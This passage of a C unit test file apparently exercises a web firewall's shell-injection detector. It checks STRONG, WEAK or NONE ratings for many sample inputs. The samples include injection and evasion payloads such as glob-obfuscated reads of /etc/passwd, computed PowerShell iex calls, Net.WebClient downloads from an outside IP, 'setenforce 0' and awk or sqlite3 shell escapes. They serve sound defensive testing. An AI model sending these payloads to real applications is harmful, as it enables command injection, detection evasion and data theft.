        CHECK(lw_words_section(W, lw_shell_sections[i]) == i);
    CHECK(lw_words_count(W) > 800);
    CHECK(lw_words_get(W, "WHOAMI", 6) != 0);
    CHECK(lw_words_get(W, "invoke-webrequest", 17) != 0);
    /* an admin's extension: a new command is recognised */
    w2 = lw_words_create(p, lw_shell_sections, lw_shell_nsections);
    CHECK(lw_words_add_text(w2, "[unix]\nfrobnicate\n", 18, "x.shell.words", &err) == APR_SUCCESS);
    {
        lw_detect_out_t o;
        CHECK(lw_detect_shell(w2, ";frobnicate", 11, &o) == LW_DETECT_STRONG);
        CHECK(lw_detect_shell(W, ";frobnicate", 11, &o) == LW_DETECT_NONE);
    }
    CHECK(lw_words_add_text(w2, "[nosuch]\nx\n", 11, "y.shell.words", &err) != APR_SUCCESS);
}

/* Values of only letters, digits, blanks, ; ( ) / . - : and the like skip
 * the parse unless a word, or a piece of one, is in the table: each piece
 * the parser looks up must still bring the parse on. */
static void plain_gate(void)
{
    lw_detect_out_t o;
    WEAK("/usr/bin/whoami.exe");            /* a binary's directory, its name */
    WEAK("if exist c:/windows");            /* cmd's IF EXIST */
    WEAK("Mozilla/5.0 (id)");
    STRONG("x;foo /etc/passwd", "? /path");  /* a system path's first part */
    STRONG("(New-Object Net.WebClient).DownloadString", "ps:");
    /* words whose pieces only the parse finds: ./x, !-1 */
    STRONG(";./x", "./x");
    STRONG("!-1", "!history");
    NONE("!5 stars");
    STRONG("x;LS /tmp", ";ls");
    STRONG("a; ls -la /", ";ls");
    CHECK(det("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko)", &o)
          == LW_DETECT_NONE);
    NONE("/images/NASA-logosmall.gif");
}

/* Second round of classes: cmd's FOR /F with usebackq's backquotes in
 * its (...), IF EXIST after a list operator, PowerShell's call operator on
 * a computed name, a binary's path as a glob wherever it stands,
 * interpreters under their version, a variable's deep folder named like a
 * command. */
static void second_round(void)
{
    STRONG("';for /f \"usebackq\" %L in (`ver`) do @echo %L", "cmd:for in do");
    STRONG("x|for /f \"tokens=1\" %a in ('echo (a)') do echo %a", "cmd:for in do");
    NONE("for each item in (list) do something");
    STRONG("'&if exist %SystemRoot%\\system32\\cmd.exe echo yes", "if echo");
    WEAK("if exist C:\\temp\\x.txt del it");
    STRONG(";&('i'+'ex') 'whoami'", "ps:&(computed)");
    STRONG("x;& (\"{0}{1}\" -f 'ie','x') whoami", "ps:&(computed)");
    STRONG("x;$a=1;&$a whoami", "ps:&(computed)");
    STRONG("x;&(gal i?x) 'whoami'", "ps:&(computed)");
    STRONG("x;&(gcm *ke-e*) 'whoami'", "gcm");
    STRONG("x;&($env:comspec) /c ver", "ps:");
    STRONG("x;.($pshome[4]+$pshome[30]+'x') 'whoami'", "ps:.(computed)");
    NONE(". (see notes)");
    /* a PowerShell member called on a variable */
    STRONG("x;$w=New-Object Net.WebClient;$w.DownloadFile('http://203.0.113.5/a','a')",
           "ps:");
    STRONG("$c.DownloadString('http://203.0.113.5/')", "ps:$var.");
    /* a quote or a parenthesis that closes the application's own, then
     * a list operator: the command after it, even an English word */
    STRONG("';env", "sh:;env");
    STRONG("x y\n';env", "sh:;env");
    NONE("it's ';env");
    STRONG("\"|hostname", "sh:|hostname");
    STRONG(")&&env", "sh:&&env");
    NONE("x;env");
    /* a quoted first part of a command's name that is also a word */
    STRONG("x&\"v\"er", "ver");
    STRONG("x|\"h\"ostname", "hostname");
    NONE("it's \"c\"ool");
    NONE("Tom & \"Jerry\"s");
    /* a PowerShell command called or given a script block after a
     * separator; an alias made for a command */
    STRONG("x;iex(whoami)", "ps:;iex");
    STRONG("x;icm {id}", "ps:;icm");
    STRONG("x;Invoke-Command {whoami}", "invoke-command");
    STRONG("x;sal a iex", "ps:;sal");
    WEAK("name;iex;email");
    NONE("which is nc");
    NONE("$scope.start(a)");
    NONE("$el.clear()");
    NONE("$obj.DownloadFile is a method");
    NONE("&(optional?)");
    NONE("&(see *notes)");
    NONE("Q&('A')");
    NONE("R&D (\"new\"+\"old\")");
    NONE("$filter=x&$orderby=name");
    /* "&$" then a character that ends no PowerShell variable's name: a
     * password's or a token's text (an XML-RPC call's password), not a
     * call on a variable */
    NONE("&$B%%<kmXDut(B_V");
    NONE("x;&$pw%3!k");
    STRONG("x;&$a", "ps:&(computed)");
    STRONG("x;&$a.Invoke()", "ps:&(computed)");
    STRONG("x;&$a|out-null", "ps:&(computed)");
    STRONG("x;&${a} whoami", "ps:&(computed)");
    STRONG(")/bi?/c?t /e?\?/p?\?swd", "(glob)");
    STRONG("1 /?\?\?/?\?t /?\?\?/p?\?swd", "(glob)");
    STRONG("1 /[b]in/[c]at /etc/passwd", "sh:cat (glob)");
    NONE("see /usr/bin/* for binaries");
    STRONG(";/bin/c* /etc/passwd", "? /path");
    NONE("see /usr/* /opt/* for programs");
    /* the globs matched off a command position have a budget of their
     * own: a line before the value (x y, a command position at 13 that
     * spends its own on /???/??tZ) leaves the finding as it was */
    STRONG("13 /?\?\?/?\?tZ /?\?\?/p?\?swd", "(glob)");
    STRONG("x y\n13 /?\?\?/?\?tZ /?\?\?/p?\?swd", "(glob)");
    /* cmd ends a command's name at its first switch; @ turns echo off */
    STRONG("x&cmd/c whoami", "whoami");
    STRONG("x|ipconfig/all", "ipconfig");
    STRONG("x&@whoami", "whoami");
    NONE("and/or");
    NONE("@home");
    /* an unset variable's default is the word: ${x:-cat} */
    STRONG(";${x:-cat} /etc/passwd", "sh:;cat");
    STRONG("x|${u:-who}ami", "whoami");
    WEAK("Hello ${name:-friend}");
    NONE("/images/a?.png");
    STRONG(";lua5.3 -e 'os.execute(\"id\")'", "sh:;lua5.3");
    STRONG(";php8.2 -r 'system(\"id\");'", "sh:;php8.2");
    STRONG(";gcc-14 -o /tmp/x /tmp/x.c", "sh:;gcc-14");
    STRONG(";sqlite3 x.db .shell id", "sh:;sqlite3");
    STRONG(";setenforce 0", "sh:;setenforce");
    NONE(";cat5 cable");
    NONE(";id3 tags");
    NONE("lua5.3 vs lua5.4 differences");
    NONE("tags: mysql;postgres");
    NONE("%APPDATA%\\Microsoft\\Windows\\Start Menu");
    STRONG("&%windir%\\system32\\whoami", "whoami");
    /* a sink called in code: BEGIN{system(...)} */
    STRONG("awk 'BEGIN{system(\"id\")}'", "sink(");
    NONE("the system(s) we use");
    NONE("ecosystem(s)");
    /* .NET types whose static members run code or read the host */
    STRONG("x;[scriptblock]::Create('whoami').Invoke()", "ps:[type]::");
    STRONG("x;[Environment]::UserName", "ps:[type]::");
    STRONG("[IO.File]::ReadAllText('C:\\Windows\\win.ini')", "ps:[type]::");
    NONE("[Environment]::NewLine in PowerShell docs");
}

int main(void)
{
    char *err = NULL;
    const char *path;
    LW_TEST_BEGIN(p);
    path = apr_pstrcat(p, lw_test_srcdir(), "/conf/signatures/shell.words", NULL);
    W = lw_words_create(p, lw_shell_sections, lw_shell_nsections);
    if (!W || lw_words_add_file(W, path, &err) != APR_SUCCESS) {
        fprintf(stderr, "cannot load %s: %s\n", path, err ? err : "?");
        return 1;
    }
    separators();
    leading_separator();
    rerun_and_builtins();
    relative_paths();
    substitutions();
    spliced();
    code_spans();
    evasions();
    wrappers();
    values_alone();
    typed_alone();
    lolbins();
    windows_cmd();
    powershell();
    sinks();
    second_round();
    benign();
    plain_gate();
    edges(p);
    words_file(p);
    LW_TEST_END();
}
